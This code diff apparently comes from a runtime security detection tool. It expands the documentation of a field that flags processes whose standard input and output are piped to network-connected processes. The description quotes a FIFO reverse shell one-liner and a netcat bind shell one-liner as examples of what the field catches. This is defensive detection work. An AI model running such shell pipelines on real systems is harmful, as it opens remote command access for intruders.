@@ -55,9 +55,11 @@ def _proc_init_child(ev: Event) -> Any:
 
 @_field("proc.stdio_wired_to_network", FieldType.LIST, SYS, "Names of processes, this one or "
         "ones it shares pipes with, whose stdin is fed and whose stdout is read, through pipes or "
-        "FIFOs (up to 3 hops), by processes that connected to the network: a shell here is a "
-        "reverse shell that dups no socket (`cat f | sh -i | nc host port > f`). Known from "
-        "execs, FIFO opens and connects of processes whose stdin and stdout are pipes.",
+        "FIFOs (up to 3 hops), by processes that connected out or accepted a connection: a "
+        "shell here is a reverse shell that dups no socket (`cat f | sh -i | nc host port > f`) "
+        "or a bind shell (`nc -l -p port < f | sh > f`). Known from execs, FIFO opens, and "
+        "connects and accepts of processes whose stdin and stdout are pipes or that opened a "
+        "FIFO.",
         falco=False)
 def _proc_wired(ev: Event) -> Any:
     proc = _proc(ev)
